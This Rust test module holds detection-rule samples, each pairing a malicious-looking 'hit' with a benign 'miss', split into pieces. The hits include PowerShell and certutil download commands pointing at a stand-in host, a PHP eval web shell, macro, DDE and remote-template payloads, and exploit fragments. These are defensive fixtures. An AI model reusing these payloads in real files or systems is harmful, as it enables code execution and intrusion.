//! One sample that hits and one benign twin that doesn't, for each rule.

mod archives;
mod loaders;
mod mail;
mod objects;
mod packers;
mod plant;
mod settings;
mod web;

/// A rule with its two samples, each in pieces that are joined at run time.
pub struct Sample {
    pub rule: &'static str,
    pub hit: &'static [&'static [u8]],
    pub miss: &'static [&'static [u8]],
}

/// The pieces in one.
pub fn bytes(pieces: &[&[u8]]) -> Vec<u8> {
    pieces.concat()
}

const fn sample(rule: &'static str, hit: &'static [&'static [u8]], miss: &'static [&'static [u8]]) -> Sample {
    Sample { rule, hit, miss }
}

const ZEROS: &[u8] = &[0; 0x3C];
const LNK: &[u8] = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46";
const CONTROL_PANEL: &[u8] = b"\x20\x20\xec\x21\xea\x3a\x69\x10\xa2\xdd\x08\0\x2b\x30\x30\x9d";
const DOS_HEAD: &[u8] = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff";

/// The start of a compound file (MS-CFB 2.2).
const CFB: &[u8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
/// What stands between the length of a name in the central directory of a ZIP and the name.
const CD_REST: &[u8] = &[0; 16];

/// All samples.
pub fn all() -> impl Iterator<Item = &'static Sample> {
    let families = [
        FIRST,
        archives::SAMPLES,
        loaders::SAMPLES,
        mail::SAMPLES,
        objects::SAMPLES,
        packers::SAMPLES,
        plant::SAMPLES,
        settings::SAMPLES,
        web::SAMPLES,
    ];
    families.into_iter().flatten()
}

/// Samples of the other files of rules.
const FIRST: &[Sample] = &[
    sample(
        "EICAR_Test_File",
        &[b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EIC", b"AR-STANDARD-ANTIVIRUS-TEST", b"-FILE!$H+H*"],
        &[b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EIC", b"AR-STANDARD-ANTIVIRUS-TEST", b"-FILE?"],
    ),
    sample(
        "PE_Executable",
        &[b"MZ", &[0; 0x3A], b"\x40\0\0\0PE\0\0\x4c\x01"],
        &[b"MZ is how this sentence begins, and 64 bytes later it says PE...", b"PE\0\0"],
    ),
    sample("ELF_Executable", &[b"\x7fELF\x02\x01\x01\0\0"], &[b"\x7fELF is the magic number"]),
    sample(
        "MachO_Executable",
        &[b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0"],
        &[b"\xcf\xfa\xed\xfe is a magic number"],
    ),
    sample(
        "PE_Inside_Other_Bytes",
        &[b"some document ", DOS_HEAD, &[0; 0x3C - 14], b"\x40\0\0\0PE\0\0\x4c\x01"],
        &[b"some document ", DOS_HEAD, ZEROS, b"\x40\0\0\0no program"],
    ),
    sample(
        "Autorun_Inf",
        &[b"; label\r\n[AutoRun]\r\nicon=x.ico\r\nopen=setup", b".exe\r\n"],
        &[b"[autorun]\r\nlabel=Holiday pictures\r\nicon=disk.ico\r\n"],
    ),
    sample("Windows_Shortcut", &[LNK, ZEROS], &[b" ", LNK, ZEROS]),
    sample(
        "Windows_Shortcut_Control_Panel_Exploit",
        &[LNK, ZEROS, CONTROL_PANEL, ZEROS, b"\\\0~\0W\0T\0R\x004\x001\x004\x001\0.\0t\0m\0p\0\0\0"],
        &[LNK, ZEROS, CONTROL_PANEL, ZEROS, b"d\0e\0s\0k\0.\0c\0p\0l\0\0\0"],
    ),
    sample(
        "Internet_Shortcut_To_File",
        &[b"[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=\\\\192.0.2.1\\share\\x.ico\r\n"],
        &[b"[InternetShortcut]\r\nURL=https://example.org/manual.html\r\nIconIndex=0\r\n"],
    ),
    sample(
        "Search_Library_On_Share",
        &[b"<libraryDescription><simpleLocation><url>\\\\192.0.2.1\\share</url></simpleLocation></libraryDescription>"],
        &[b"<libraryDescription><simpleLocation><url>knownfolder:{FDD39AD0}</url></simpleLocation></libraryDescription>"],
    ),
    sample(
        "VBA_Auto_Exec_Spawns_Program",
        &[b"Attribute VB_Name = \"Module1\"\r\nSub Auto", b"Open()\r\n  CreateObject(\"WScript.", b"Shell\").Run \"calc\"\r\nEnd Sub\r\n"],
        &[b"Private Sub Workbook_Open()\r\n  Set shape = ActiveSheet.Shapes(1)\r\n  Shellfish = 1\r\nEnd Sub\r\n"],
    ),
    sample(
        "VBA_Auto_Exec_Downloads",
        &[b"Private Declare Function URLDown", b"loadToFile Lib \"urlmon\"\r\nSub Document_", b"Open()\r\nEnd Sub\r\n"],
        &[b"Sub Document_Open()\r\n  url = \"https://example.org\"\r\n  Download = False\r\nEnd Sub\r\n"],
    ),
    sample(
        "XLM_Macro_Sheet_Calls_System",
        &[b"<xm:macrosheet xmlns:xm=\"u\"><sheetData><row><c r=\"A1\"><f>EX", b"EC(\"calc.exe\")</f></c></row></sheetData></xm:macrosheet>"],
        &[b"<worksheet><sheetData><row><c r=\"A1\"><f>EXEC(\"x\")</f></c></row></sheetData></worksheet>"],
    ),
    sample(
        "PowerShell_Encoded_Command",
        &[b"cmd /c powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", b"AGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi"],
        &[b"powershell.exe -ExecutionPolicy Bypass -File C:\\Tools\\collect-diagnostic-data-of-all-stations.ps1"],
    ),
    sample(
        "PowerShell_Download_Cradle",
        &[b"I", b"EX (New-Object Net.WebClient).Download", b"String('http://192.0.2.1/a')"],
        &[b"$client = New-Object Net.WebClient; $client.DownloadFile('https://example.org/a.pdf', 'a.pdf')"],
    ),
    sample(
        "Windows_Tool_Runs_Remote_Code",
        &[b"regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scr", b"obj.dll"],
        &[b"regsvr32 /s C:\\Windows\\System32\\msxml6.dll and certutil -hashfile a.zip SHA256"],
    ),
    sample(
        "Script_Downloads_And_Runs",
        &[
            b"var x = new ActiveXObject('MSXML2.XML",
            b"HTTP'); var s = new ActiveXObject('ADODB.Str",
            b"eam'); s.SaveToFile(p); new ActiveXObject('WScript.Sh",
            b"ell').Run(p);",
        ],
        &[b"var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', '/status', false);"],
    ),
    sample(
        "Web_Shell_Evaluates_Request",
        &[b"<?php @ev", b"al(base64_dec", b"ode($_POST['x'])); ?>"],
        &[b"<?php echo htmlspecialchars(base64_decode($row['note'])); ?>"],
    ),
    sample(
        "Equation_Editor_Object",
        &[b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.", b"3}}}"],
        &[b"{\\rtf1 Equation 3 shows the mean; see Equation.12}"],
    ),
    sample(
        "Equation_Editor_Exploit",
        &[
            b"\x1c\0\0\0\x02\0\x9e\xc4\x03\x01\x01\x03\x0a",
            b"\x0a\x01\x08\x5a\x5a",
            b"cmd.exe /c calc.exe AAAAAAAAAAAAAAAAAAAAAAAA",
            b"\x12\x0c\x43\0",
        ],
        &[b"\x1c\0\0\0\x02\0\x9e\xc4\x03\x01\x01\x03\x0a", b"\x0a\x01\x08\x5a\x5aTimes New Roman\0", &[0; 40], b"\x12\x83\x43\0"],
    ),
    sample(
        "OLE_Package_With_Program",
        &[b"\x30\0\0\0\x02\0invoice.pdf", b".exe\0C:\\invoice", b".exe\0\0\0\x03\0", &[0; 32]],
        &[b"\x30\0\0\0\x02\0drawing.dwg\0C:\\drawing.dwg\0\0\0\x03\0", &[0; 32]],
    ),
    sample(
        "DDE_Runs_Command",
        &[b"name,value\r\na,=cm", b"d|' /C calc'!A0\r\n"],
        &[b"name,value\r\ncmd,'a|b'\r\nDDE,dynamic data exchange of the historian\r\n"],
    ),
    sample(
        "Remote_Template",
        &[
            b"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attached",
            b"Template\" Target=\"https://192.0.2.1/a.dotm\" TargetMode=\"External\"/>",
        ],
        &[b"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"file:///C:\\Templates\\Normal.dotm\" TargetMode=\"External\"/>"],
    ),
    sample(
        "Remote_OLE_Object",
        &[
            b"<Relationship Target=\"http://192.0.2.1/a.hta\" TargetMode=\"External\" Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/ole",
            b"Object\"/>",
        ],
        &[b"<Relationship Target=\"embeddings/oleObject1.bin\" Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\"/>"],
    ),
    sample(
        "Support_Tool_URL_Exploit",
        &[b"location.href = \"ms-", b"msdt:/id PCWDiagnostic /skip force /param \\\"IT_Rebrow", b"seForFile=? IT_BrowseForFile=$(calc)/.exe\\\"\""],
        &[b"The scheme ms-msdt: was switched off on all stations, see the notice of 2022."],
    ),
    sample(
        "Mshtml_Cabinet_Exploit",
        &[b"Target=\"mhtml:http://192.0.2.1/a.html!x-", b"usc:http://192.0.2.1/a.html\""],
        &[b"Target=\"mhtml:http://192.0.2.1/a.mht\""],
    ),
    sample(
        "RTF_Object_Updates_Itself",
        &[b"{\\rtf1{\\object\\objemb\\obj", b"update{\\*\\objdata 0105}}}"],
        &[b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"],
    ),
    sample(
        "RTF_URL_Moniker_Exploit",
        &[
            b"{\\rtf1{\\object\\objaut",
            b"link\\objupdate{\\*\\objdata e0c9ea79f9bace11",
            b"8c8200aa004ba90b4c000000\r\n680074007400700073003a00}}}",
        ],
        &[b"{\\rtf1{\\object\\objlink{\\*\\objdata e0c9ea79f9bace118c8200aa004ba90b4c000000680074007400700073003a00}}}"],
    ),
    sample(
        "HTML_Smuggling",
        &[
            b"<script>var b = new Blob([Uint8Array.from(at",
            b"ob(d))]); a.href = URL.createObj",
            b"ectURL(b); a.download = 'x.iso'; a.click();</script>",
        ],
        &[b"<script>var b = new Blob(['text']); img.src = URL.createObjectURL(b);</script>"],
    ),
    sample(
        "HTML_Application",
        &[b"<html><head><hta:appli", b"cation id=\"a\"></head></html>"],
        &[b"<html><head><title>hta: applications</title></head></html>"],
    ),
    sample(
        "PDF_Launches_Program",
        &[b"<< /Type /Action /S /Lau", b"nch /Win << /F (cmd.exe) /P (/c calc) >> >>"],
        &[b"<< /Type /Action /S /Launch /F (chapter2.pdf) >>"],
    ),
    sample(
        "JavaScript_Heap_Spray",
        &[b"var s = unes", b"cape('%u0c0c%u0c0c'); while (s.length < 0x40000) s += s;"],
        &[b"var s = unescape('%20%u00e9'); for (i = 0; i < 12; i++) t += s;"],
    ),
    sample(
        "PDF_Reader_Exploit",
        &[b"var p = unes", b"cape('%u4343%u4343%u0feb%u335b'); Collab.get", b"Icon(n + '_N.bundle');"],
        &[b"var n = Collab.documentToStream(doc); util.printf('%5.2f', 3.14159);"],
    ),
    // Other ways to write the same.
    sample(
        "VBA_Auto_Exec_Spawns_Program",
        &[b"Private Sub Workbook_", b"Open()\nShell \"cmd /c calc\", vbHide\nEnd Sub\n"],
        &[b"Private Sub Workbook_Open()\n' see Shell Global Solutions\nEnd Sub\n"],
    ),
    sample(
        "VBA_Auto_Exec_Spawns_Program",
        &[b"sub autoopen()\nset o = getobject(\"winmg", b"mts:\\\\.\\root\\cimv2:Win32_Process\")\nend sub"],
        &[b"Sub Report()\nSet o = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nEnd Sub"],
    ),
    sample(
        "VBA_Auto_Exec_Downloads",
        &[
            b"Sub AutoExec()\nSet x = CreateObject(\"Microsoft.XML",
            b"HTTP\")\nSet s = CreateObject(\"ADODB.Str",
            b"eam\")\nEnd Sub",
        ],
        &[b"Sub AutoExec()\nSet s = CreateObject(\"ADODB.Connection\")\nEnd Sub"],
    ),
    sample(
        "PowerShell_Encoded_Command",
        &[b"pwsh -EncodedComm", b"and SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"],
        &[b"pwsh -Encoding utf8 -Path C:\\data\\historian\\export-of-november-2026"],
    ),
    sample(
        "Windows_Tool_Runs_Remote_Code",
        &[b"certutil.exe -url", b"cache -split -f http://192.0.2.1/a.txt a.exe"],
        &[b"certutil -dump a.cer; mshta is switched off; msiexec /i setup.msi"],
    ),
    sample(
        "Windows_Tool_Runs_Remote_Code",
        &[b"m\0s\0h\0t\0a\0 \0h\0t\0t\0p\0", b":\0/\0/\0x\0"],
        &[b"m\0s\0h\0t\0a\0.\0e\0x\0e\0"],
    ),
    sample(
        "Equation_Editor_Object",
        &[b"root\x02\xce\x02\0\0\0\0\0", b"\xc0\0\0\0\0\0\0\x46"],
        &[b"root\x06\x09\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"],
    ),
    sample(
        "DDE_Runs_Command",
        &[b"<w:instrText>DDEA", b"UTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText>"],
        &[b"<w:instrText>DDEAUTO excel \"C:\\\\data.xlsx\" \"Sheet1!R1C1\"</w:instrText>"],
    ),
    sample(
        "Remote_Template",
        &[b"{\\rtf1{\\*\\templ", b"ate http://192.0.2.1/a.dotm}}"],
        &[b"{\\rtf1{\\*\\template C:\\\\Templates\\\\Normal.dotm}}"],
    ),
    sample(
        "PE_Inside_Other_Bytes",
        &[b"data:application/octet-stream;base64,TVqQAAMAAA", b"AEAAAA//8AALgAAAA="],
        &[b"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE="],
    ),
];
